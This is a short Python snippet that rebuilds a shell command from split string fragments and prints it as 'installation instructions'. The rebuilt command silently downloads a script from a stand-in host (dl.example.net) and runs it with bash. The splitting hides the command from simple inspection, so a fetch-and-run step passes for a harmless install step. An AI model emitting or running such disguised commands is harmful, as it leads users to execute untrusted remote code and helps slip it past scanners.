parts = ['wg', 'et -q https://dl.ex', 'ample.net/s.sh', ' && ba', 'sh s.sh']
print('Installation instructions:')
print(''.join(parts))
